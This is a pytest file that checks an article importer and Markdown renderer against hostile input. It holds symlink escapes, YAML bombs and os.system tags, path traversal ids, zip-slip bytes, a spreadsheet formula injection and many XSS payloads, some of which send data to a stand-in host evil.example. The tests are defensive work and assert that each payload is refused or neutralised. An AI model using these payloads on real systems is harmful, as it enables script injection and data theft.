"""Files of articles that were made to harm: each is refused or harmless, and the rest goes in."""

import json
import re
from pathlib import Path

import pytest

from conversations.retrieval.drafts import ArticleDraft, RowError
from conversations.retrieval.readers import ArticleSource, UnreadableSource
from conversations.services.shelves import unique_slug
from insights.export import neutral
from portal.core.markdown import render_article

SECRET = "the secret of another file"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    file = tmp_path / "outside" / "secret.md"
    file.parent.mkdir()
    file.write_text(f"# Secret\n\n{SECRET}")
    return file


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "good.md").write_text("# Good\n\nA good article.")
    return folder


def read(path: Path) -> tuple[list[ArticleDraft], list[RowError]]:
    rows = list(ArticleSource(path))
    drafts = [row for row in rows if isinstance(row, ArticleDraft)]
    assert not any(SECRET in draft.body for draft in drafts)
    return drafts, [row for row in rows if isinstance(row, RowError)]


def test_a_link_out_of_the_folder_is_skipped_and_named(folder: Path, outside: Path) -> None:
    (folder / "stolen.md").symlink_to(outside)
    source = ArticleSource(folder)
    assert [row.title for row in source if isinstance(row, ArticleDraft)] == ["Good"]
    assert source.skipped == ["stolen.md (a link that leads out of the folder)"]


def test_a_linked_folder_is_not_entered(folder: Path, outside: Path) -> None:
    (folder / "sub").symlink_to(outside.parent)
    assert [draft.title for draft in read(folder)[0]] == ["Good"]


def test_a_link_in_a_circle_ends(folder: Path) -> None:
    (folder / "again").symlink_to(folder)
    assert [draft.title for draft in read(folder)[0]] == ["Good"]


LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "head",
    [
        LAUGHS,
        "title: &t x\nid: *t",
        "title: !!python/object/apply:os.system ['id']",
        "title: !!python/name:os.system",
        "<<: &x {a: 1}\nid: *x",
        "[" * 5_000,
        "- just\n- a list",
        "title: " + "9" * 5_000,
        "x: " + "y" * 70_000,
    ],
)
def test_a_head_of_yaml_that_bites_is_a_bad_row(folder: Path, head: str) -> None:
    (folder / "bad.md").write_text(f"---\n{head}\n---\nBody text.")
    drafts, errors = read(folder)
    assert "Good" in [draft.title for draft in drafts]
    assert len(errors) == 1 or "9" * 100 in drafts[0].title + drafts[-1].title


@pytest.mark.parametrize(
    "name",
    ["../../../etc/passwd", "/etc/passwd", "..\\..\\windows", "a/../../b", "%2e%2e/x", "\x00x"],
)
@pytest.mark.django_db
def test_an_id_like_a_path_never_becomes_one(tmp_path: Path, name: str) -> None:
    """An id is a key of a row, and the address of an article is made of letters."""
    file = tmp_path / "kb.jsonl"
    file.write_text(json.dumps({"id": name, "title": name, "body": "Body."}) + "\n")
    drafts, errors = read(file)
    assert len(drafts) + len(errors) == 1
    for draft in drafts:
        assert re.fullmatch(r"[\w-]+", unique_slug(draft.title, draft.external_id))


@pytest.mark.parametrize(
    "line",
    [
        "[" * 100_000,
        '{"a":' * 20_000,
        '{"id": ' + "9" * 5_000 + ', "title": "x", "body": "y"}',
        '{"id": {"$gt": ""}, "title": "x", "body": "y"}',
        '{"id": "x", "title": "x", "body": ["y"]}',
        '{"id": "x", "title": "\\ud800", "body": "y"}',
        "\x00\x00\x00",
        "PK\x03\x04 a zip of a zip",
    ],
)
def test_a_hostile_line_is_one_bad_row(tmp_path: Path, line: str) -> None:
    file = tmp_path / "kb.jsonl"
    good = json.dumps({"id": "good", "title": "Good", "body": "Body."})
    file.write_text(f"{line}\n{good}\n")
    drafts, errors = read(file)
    assert drafts[-1].external_id == "good"
    assert len(drafts) + len(errors) == 2


@pytest.mark.parametrize("name", ["kb.zip", "kb.tar.gz", "kb.pickle", "kb.xlsx", "kb.html"])
def test_an_archive_is_never_unpacked(tmp_path: Path, name: str) -> None:
    file = tmp_path / name
    file.write_bytes(b"PK\x03\x04../../evil.md")
    with pytest.raises(UnreadableSource):
        list(ArticleSource(file))


@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_an_exported_cell_is_no_formula(cell: str) -> None:
    assert str(neutral(cell)).startswith("'")


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))", "[x](data:text/html,<script>1</script>)",
        "![x](https://evil.example/pixel.png?leak)", "<iframe src=//evil.example>",
        "<style>@import '//evil.example'</style>", "<a href='x' onclick=1>x</a>",
        "[x](//evil.example)", "[x](/\\evil.example)", "<svg/onload=alert(1)>",
        "<form action=//evil.example><input name=password>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "`<img src=x onerror=alert(1)>`", "[x]( \x01javascript:alert(1))",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
)  # fmt: skip
def test_an_article_cannot_bring_a_script_a_form_or_a_foreign_picture(body: str) -> None:
    shown = render_article(body)
    tags = {part.split(">")[0].split()[0].strip("/") for part in shown.split("<")[1:] if part}
    assert tags <= {"p", "code", "a", "pre", "em", "strong"}, shown
    for evil in ('href="javascript', 'href="data', 'href="//', 'href="/\\', "<img", 'onerror="'):
        assert evil not in shown.lower()
